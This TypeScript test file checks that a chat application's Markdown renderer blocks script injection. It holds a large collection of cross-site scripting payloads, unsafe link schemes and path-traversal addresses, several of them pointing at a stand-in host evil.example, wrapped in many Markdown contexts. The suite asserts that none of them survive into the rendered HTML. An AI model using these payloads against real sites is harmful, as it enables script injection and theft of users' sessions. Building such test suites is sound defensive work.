import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { directoryOf, pictureAddress } from './directory.fixture.ts';
import { renderMessage, topicLinks } from './index.ts';
import { isSafeHref } from './links.ts';
import { checkHtml } from './strict-html.fixture.ts';

/** Attempts at script, after the well-known families: what filters have let through over the years. */
const MARKUP = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=http://evil.example/x.js></SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script/xss src="http://evil.example/x.js"></script>
<script/src="http://evil.example/x.js"></script>
<script\x20type="text/javascript">alert(1);</script>
<script	>alert(1)</script	>
<<SCRIPT>alert("x");//\<</SCRIPT>
<SCRIPT SRC=http://evil.example/x.js?< B >
<SCRIPT SRC=//evil.example/.j>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)//
<script>alert(1)<!--
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
'';!--"<XSS>=&{()}
\";alert(1);//
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img src="x" onerror="alert(1)" />
<img/src/onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<IMG SRC="javascript:alert(1);">
<IMG SRC=javascript:alert(1)>
<IMG SRC=JaVaScRiPt:alert(1)>
<IMG SRC=javascript:alert(&quot;x&quot;)>
<IMG SRC=${'`'}javascript:alert("x")${'`'}>
<IMG """><SCRIPT>alert(1)</SCRIPT>"\>
<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
<IMG SRC=# onmouseover="alert(1)">
<IMG SRC= onmouseover="alert(1)">
<IMG onmouseover="alert(1)">
<IMG SRC=/ onerror="alert(1)"></img>
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#39;&#41;>
<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>
<IMG SRC="jav	ascript:alert(1);">
<IMG SRC="jav&#x09;ascript:alert(1);">
<IMG SRC="jav&#x0A;ascript:alert(1);">
<IMG SRC="jav&#x0D;ascript:alert(1);">
<IMG SRC=" &#14; javascript:alert(1);">
<IMG SRC="${'`'}<javascript:alert>${'`'}('XSS')"
<IMG DYNSRC="javascript:alert(1)">
<IMG LOWSRC="javascript:alert(1)">
<IMG SRC='vbscript:msgbox("x")'>
<IMG SRC="livescript:[code]">
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img srcset="x 1x" onerror=alert(1)>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<image src=x onerror=alert(1)>
<BODY BACKGROUND="javascript:alert(1)">
<BODY ONLOAD=alert(1)>
<BODY onload!#$%&()*~+-_.,:;?@[/|\]^${'`'}=alert(1)>
<body onscroll=alert(1)><br><br><br><input autofocus>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>x</a>
<BGSOUND SRC="javascript:alert(1);">
<BR SIZE="&{alert(1)}">
<LINK REL="stylesheet" HREF="javascript:alert(1);">
<LINK REL="stylesheet" HREF="http://evil.example/x.css">
<STYLE>@import'http://evil.example/x.css';</STYLE>
<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x
<STYLE>BODY{-moz-binding:url("http://evil.example/x.xml#x")}</STYLE>
<STYLE>@im\port'\ja\vasc\ript:alert(1)';</STYLE>
<STYLE TYPE="text/javascript">alert(1);</STYLE>
<XSS STYLE="xss:expression(alert(1))">
<XSS STYLE="behavior: url(x.htc);">
<DIV STYLE="background-image: url(javascript:alert(1))">
<DIV STYLE="background-image: url(&#1;javascript:alert(1))">
<DIV STYLE="width: expression(alert(1));">
<p style="animation:x" onanimationstart=alert(1)>
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">
<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD4=">
<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">
<IFRAME SRC="javascript:alert(1);"></IFRAME>
<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>
<iframe srcdoc="<script>alert(1)</script>">
<iframe/src="data:text/html,<svg onload=alert(1)>">
<iframe src=http://evil.example/x.html <
<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>
<TABLE BACKGROUND="javascript:alert(1)">
<TABLE><TD BACKGROUND="javascript:alert(1)">
<BASE HREF="javascript:alert(1);//">
<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/x.html"></OBJECT>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<EMBED SRC="http://evil.example/x.swf" AllowScriptAccess="always"></EMBED>
<embed src="javascript:alert(1)">
<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc=" type="image/svg+xml">
<XML ID="x"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>
<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->
<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://evil.example/x.js></SCRIPT>'"-->
<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>
<![CDATA[<script>alert(1)</script>]]>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<HTML xmlns:xss><?import namespace="xss" implementation="http://evil.example/x.htc"><xss:xss>x</xss:xss></HTML>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg	onload=alert(1)>
<svg onload=alert&lpar;1&rpar;>
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script>
<svg><script xlink:href="data:,alert(1)" />
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName="href" to="javascript:alert(1)">
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x">
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><![CDATA[</title><script>alert(1)</script>]]></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>alert(4)</script>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<form><button formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit>
<form id="x"></form><button form="x" formaction="javascript:alert(1)">x
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">
<isindex type=image src=1 onerror=alert(1)>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<marquee onstart=alert(1)>
<audio src=x onerror=alert(1)>
<audio src onloadstart=alert(1)>
<video><source onerror="alert(1)">
<video poster=javascript:alert(1)//></video>
<video onloadstart=alert(1)><source></video>
<object onerror=alert(1)>
<track onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=javascript&colon;alert&lpar;1&rpar;>x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="\x0Bjavascript:alert(1)">x</a>
<a href="javascript\x3Ajavascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a onmouseover="alert(document.cookie)">x</a>
<a onmouseover=alert(document.cookie)>x</a>
<a href="http://x.y" target="_blank" ping="http://evil.example">x</a>
<a href="http://x.y/"><img alt="</a><script>alert(1)</script>">
<div onpointerover="alert(1)">x</div>
<div onwheel=alert(1)>x
<x onclick=alert(1)>x
<x contenteditable onblur=alert(1)>x
<x tabindex=1 onfocusin=alert(1)>
<custom-element is="x" oncopy=alert(1)>
<p/onmouseover=javascript:alert(1);>x
<p class="user-mention" data-user-id="1">@admin</p>
<span class="user-mention" data-user-id="1">@admin</span>
<time datetime="2020-01-01" onclick=alert(1)>x</time>
<portal src="javascript:alert(1)">
<applet code="javascript:alert(1)">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img onerror=alert(1) src=x&gt;</listing>
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
&#x000003c;img src=x onerror=alert(1)&#x000003e;
&LT;svg onload=alert(1)&GT;
+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-
¼script¾alert(¢XSS¢)¼/script¾
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
<a<!-- -->href=javascript:alert(1)>
<​script>alert(1)</script>
<scr‮ipt>alert(1)</script>
ja${'`'}vascript:alert(1)
{{constructor.constructor('alert(1)')()}}
`
  .split('\n')
  .filter((line) => line !== '');

const CONTROL = [
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<\0script>alert(1)</script>',
  '<img src="java\0script:alert(1)">',
  '<img\fsrc=x\fonerror=alert(1)>',
  '<img\vsrc=x\vonerror=alert(1)>',
  '<svg\ronload=alert(1)>',
  '<svg\nonload=alert(1)>',
  '<img src=x\u2028onerror=alert(1)>',
  '<img src=x\u00a0onerror=alert(1)>',
  '\ud83c<script>alert(1)</script>\udf00',
  '\ufeff<script>alert(1)</script>',
  '\u0001<script>\u0001alert(1)</script>',
];

/** Addresses that must not become links, whatever writes them. */
const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'javascript:javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  'javascript&#0000058alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java&#x09;script:alert(1)',
  'java&#10;script:alert(1)',
  'java&#13;script:alert(1)',
  'java&#0;script:alert(1)',
  '&#1;javascript:alert(1)',
  '&#32;javascript:alert(1)',
  '&nbsp;javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\rscript:alert(1)',
  'java\0script:alert(1)',
  'java\u200bscript:alert(1)',
  'java\u00adscript:alert(1)',
  '\u0001javascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  '\\javascript:alert(1)',
  'javascript\\:alert(1)',
  'java\\script:alert(1)',
  'javascript%3Aalert(1)',
  '%6aavascript:alert(1)',
  '%0ajavascript:alert(1)',
  'ｊａｖａｓｃｒｉｐｔ:alert(1)',
  'javaſcript:alert(1)',
  'javascript：alert(1)',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/png;base64,iVBORw0KGgo=',
  'data:image/svg+xml,<svg/onload=alert(1)>',
  'DATA:text/html,x',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'jar:http://evil.example/x.jar!/x.html',
  'blob:https://chat.example.com/x',
  'filesystem:https://chat.example.com/x',
  'about:blank',
  'file:///etc/passwd',
  'FILE:///etc/passwd',
  'ftp://evil.example/x',
  'ws://evil.example/',
  'intent://x#Intent;scheme=http;end',
  'ms-msdt:/id',
  'chrome://settings',
  'x-javascript:alert(1)',
  '//evil.example/x',
  '///evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
  '/%09/evil.example',
  'http:evil.example',
  'http:/evil.example',
  'https:\\\\evil.example',
  'http://',
  'https:///evil.example',
  '/x/../logout',
  '/x/%2e%2E/logout',
  '/./logout',
  '/..',
  '/%5cevil.example',
  '/%2fevil.example',
  '/user_uploads/',
  '/user_uploads/../logout',
  '/user_uploads/2/../../logout',
  '/user_uploads/%2e%2e/logout',
  '/user_uploads/%2E%2E%2Flogout',
  '/user_uploads/..%2flogout',
  '/user_uploads//evil.example',
  '/user_uploads/..\\logout',
  '/user_uploads/%5c..%5cx',
  '/user_uploads/%00',
  '/user_uploads/%E0%A4%A',
  '//evil.example/#narrow/x',
  '#',
  '?x=y',
  './x',
  'x',
  'mailto:',
  'tel:',
  'tel:javascript:alert(1)',
  'sms:javascript:alert(1)',
  'bitcoin:javascript:alert(1)',
];

const AROUND_ADDRESS: ((address: string) => string)[] = [
  (a) => a,
  (a) => `<${a}>`,
  (a) => `[x](${a})`,
  (a) => `[x](<${a}>)`,
  (a) => `[x]( ${a} "t")`,
  (a) => `[x](\n${a}\n)`,
  (a) => `![x](${a})`,
  (a) => `![x](<${a}> 't')`,
  (a) => `[![x](${a})](${a})`,
  (a) => `[x]: ${a}\n\n[x]\n\n[y][x]`,
  (a) => `[x]:\n<${a}>\n'\n[x]`,
  (a) => `> - [x](${a})`,
  (a) => `|[x](${a})|\n|-|\n|<${a}>|`,
];

const AROUND_MARKUP: ((markup: string) => string)[] = [
  (m) => m,
  (m) => `a ${m} b`,
  (m) => `\n${m}\n`,
  (m) => `> ${m}`,
  (m) => `- ${m}`,
  (m) => `# ${m}`,
  (m) => `**${m}**`,
  (m) => `~~${m}~~`,
  (m) => `\`${m}\``,
  (m) => `    ${m}`,
  (m) => `\`\`\`\n${m}\n\`\`\``,
  (m) => `\`\`\`${m}\nx\n\`\`\``,
  (m) => `~~~${m}\nx\n~~~`,
  (m) => `\`\`\`quote\n${m}\n\`\`\``,
  (m) => `\`\`\`spoiler ${m}\n${m}\n\`\`\``,
  (m) => `|${m}|\n|-|\n|${m}|`,
  (m) => `[${m}](http://x.y)`,
  (m) => `[x](http://x.y "${m}")`,
  (m) => `[x](http://x.y '${m}')`,
  (m) => `[x](http://x.y/${m})`,
  (m) => `[x](<http://x.y/${m}>)`,
  (m) => `<http://x.y/${m}>`,
  (m) => `http://x.y/${m}`,
  (m) => `http://${m}`,
  (m) => `![${m}](/user_uploads/2/a.png)`,
  (m) => `![x](/user_uploads/2/a.png "${m}")`,
  (m) => `![x](</user_uploads/2/${m}.png>)`,
  (m) => `![${m}](http://x.y/z.png)`,
  (m) => `[x](/#narrow/${m})`,
  (m) => `mailto:${m}@x.com`,
  (m) => `a@${m}.com`,
  (m) => `@**${m}** @_**${m}|1** @*${m}* #**${m}** #**general>${m}** #**general>${m}@1**`,
  (m) => `<time:${m}>`,
  (m) => `$$${m}$$`,
  (m) => `/me ${m}`,
  (m) => `[x]: http://x.y "${m}"\n\n[x]`,
];

/** Tricks of Markdown itself. */
const MARKDOWN = [
  '[a](<javascript:alert(1)>)',
  '[a](j\na\nv\na\ns\nc\nr\ni\np\nt\n:alert(1))',
  '[a](javascript:window.onerror=alert;throw%201)',
  '[a](http://x.y" onclick="alert(1))',
  '[a](<http://x.y" onclick="alert(1)>)',
  '[a](http://x.y \'"onclick="alert(1)\')',
  '[a](http://x.y "a\\"onclick=\\"alert(1)")',
  '[a](http://x.y (" onclick=alert(1) x="))',
  '![a](http://x.y"onerror="alert(1))',
  '![a"onerror="alert(1)](/user_uploads/1/x.png)',
  '![a](/user_uploads/1/x.png"onerror="alert(1))',
  '![a](/user_uploads/1/x.png?"onerror=alert(1))',
  '![a](/user_uploads/1/x.svg#"><svg onload=alert(1)>)',
  '[a](/user_uploads/1/<img src=x onerror=alert(1)>.png)',
  '<http://x.y/"onclick=alert(1)>',
  "<http://x.y/'onclick=alert(1)>",
  '<javascript:alert(1)>',
  '<https://x.y/?<script>alert(1)</script>>',
  'http://x.y/"onmouseover="alert(1)',
  "http://x.y/'><script>alert(1)</script>",
  'http://a<b>c.com http://a"b.com http://javascript:alert(1)@x.y',
  'http://x.y/`<img src=x onerror=alert(1)>`',
  '```js" onload="alert(1)\nx\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```js"><img/src=x/onerror=alert(1)>\nx\n```',
  '```\n</code></pre></div><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '```spoiler <script>alert(1)</script>\n</div></div><script>alert(1)</script>\n```',
  '```quote\n</blockquote><script>alert(1)</script>\n```',
  '> </blockquote><script>alert(1)</script>',
  '1"onclick="alert(1). x',
  '999999999. x',
  '|a"onclick="|\n|:-:|\n|</td><script>alert(1)</script>|',
  '|a|\n|:-"onclick=alert(1):|\n|b|',
  '[a\\](javascript:alert(1))](http://x.y)',
  '[a](http://x.y)[b](javascript:alert(1))',
  '[<img src=x onerror=alert(1)>](http://x.y)',
  '[[a](javascript:alert(1))](http://x.y)',
  '[![a](javascript:alert(1))](http://x.y)',
  '![![a](javascript:alert(1))](http://x.y)',
  '![[a](javascript:alert(1))](/user_uploads/1/x.png)',
  '[x <http://a.b> ![y](http://c.d) http://e.f #**general** z](http://g.h)',
  '[a]: <javascript:alert(1)>\n[a]',
  '[a]: http://x.y "><script>alert(1)</script>"\n[a]',
  '[^1]: <script>alert(1)</script>\n[^1]',
  '*<script>*alert(1)*</script>*',
  '<scr**ipt>alert(1)</scr**ipt>',
  '<scr`ipt>`alert(1)',
  '<img src=x one**rro**r=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;',
  '&#38;lt;script&#38;gt;',
  '\\<script\\>alert(1)\\</script\\>',
  '@**<script>alert(1)</script>**',
  '@**"onclick="alert(1)|1**',
  '#**general>"><script>alert(1)</script>**',
  '#**general>x" onclick="alert(1)**',
  '#**general>x@1"onclick=alert(1)**',
  '#**general>javascript:alert(1)**',
  '[a](/#narrow/channel/1"onclick="alert(1))',
  '[a](/#narrow/../../x)',
  '<time:2020-01-01T00:00:00Z"onclick="alert(1)>',
  '<time:2020-01-01T00:00:00Z onclick=alert(1)>',
  'mailto:x@y.zz?subject="><script>alert(1)</script>',
  '<mailto:x@y.zz"onclick=alert(1)>',
  'x"onclick="alert(1)@y.zz',
  '<x"onclick="alert(1)@y.zz>',
  'a\u0085<script>\u0085alert(1)</script>',
];

const hostileNames = (markup: string) =>
  directoryOf({
    users: [
      { id: 1, fullName: markup },
      { id: 2, fullName: 'Ann' },
    ],
    groups: [{ id: 1, name: markup }],
    channels: [
      { id: 1, name: markup },
      { id: 2, name: 'general' },
    ],
  });

const DIRECTORY = hostileNames('x');
const REALM = { realmUrl: 'https://chat.example.com', pictureAddress };

describe('script never gets through', () => {
  test('the collection is large enough to mean something', () => {
    assert.ok(MARKUP.length + CONTROL.length + MARKDOWN.length + ADDRESSES.length >= 300);
  });

  for (const markup of [...MARKUP, ...CONTROL, ...MARKDOWN]) {
    test(JSON.stringify(markup), () => {
      for (const around of AROUND_MARKUP) checkHtml(renderMessage(around(markup), DIRECTORY, REALM).html);
    });
  }

  test('all in one message', () => {
    checkHtml(renderMessage([...MARKUP, ...CONTROL, ...MARKDOWN].join('\n'), DIRECTORY, REALM).html);
    checkHtml(renderMessage([...MARKUP, ...CONTROL, ...MARKDOWN].join('\n\n'), DIRECTORY, REALM).html);
  });

  test('pieces of one in another', () => {
    for (let i = 0; i < MARKUP.length; i++) {
      for (let j = 1; j < 8; j++) {
        const other = MARKUP[(i * 7 + j * 31) % MARKUP.length]!;
        checkHtml(renderMessage(`[${MARKUP[i]}](http://x.y "${other}") @**${other}** ${MARKUP[i]}`, DIRECTORY).html);
      }
    }
  });
});

describe('addresses that are no links', () => {
  for (const address of ADDRESSES) {
    test(JSON.stringify(address), () => {
      assert.equal(isSafeHref(address), false);
      for (const around of AROUND_ADDRESS) {
        const { html } = renderMessage(around(address), DIRECTORY, REALM);
        const { hrefs } = checkHtml(html);
        // A web address inside a refused one may be a link of its own; nothing else may.
        for (const href of hrefs) assert.match(href, /^https?:\/\/[^/]/, `${around(address)} gives ${html}`);
      }
      for (const { url } of topicLinks(`x ${address} y`)) assert.match(url, /^https?:\/\/[^/]/);
    });
  }
});

describe('names with markup, from the directory', () => {
  for (const markup of [...MARKUP, ...CONTROL, '"onclick="alert(1)', "'onclick='alert(1)", '</span><script>', '&lt;']) {
    test(JSON.stringify(markup), () => {
      const directory = hostileNames(markup);
      const name = markup.replaceAll('\0', '\ufffd');
      const content = [
        `@**${name}** @_**${name}** @**|1** @_**|1**`,
        `@*${name}* @_*${name}*`,
        `#**${name}** #**${name}>t** #**${name}>t@1**`,
        `#**${name}>${name}**`,
        `> @**|1** #**${name}**`,
        `[@**|1** #**${name}**](http://x.y)`,
        `![@**|1**](/user_uploads/1/x.png)`,
        '```spoiler @**|1**\n@**|1**\n```',
      ].join('\n\n');
      const rendered = renderMessage(content, directory, REALM);
      checkHtml(rendered.html);
      assert.deepEqual(rendered.mentionedUserIds, [1]);
    });
  }
});

test('a formula writes nothing into the log of the server', (t) => {
  const written = (['log', 'warn', 'error'] as const).map((name) => t.mock.method(console, name, () => undefined));
  for (const tex of ['\\message{{"level":60}}', '\\errmessage{x}', '\\show\\frac', '\\text{👍🏽}', 'x\\message{y}z'])
    checkHtml(renderMessage(`$$${tex}$$`, directoryOf({})).html);
  assert.deepEqual(
    written.map(({ mock }) => mock.calls),
    [[], [], []],
  );
  assert.match(renderMessage('$$x^2$$', directoryOf({})).html, /class="katex"/);
});
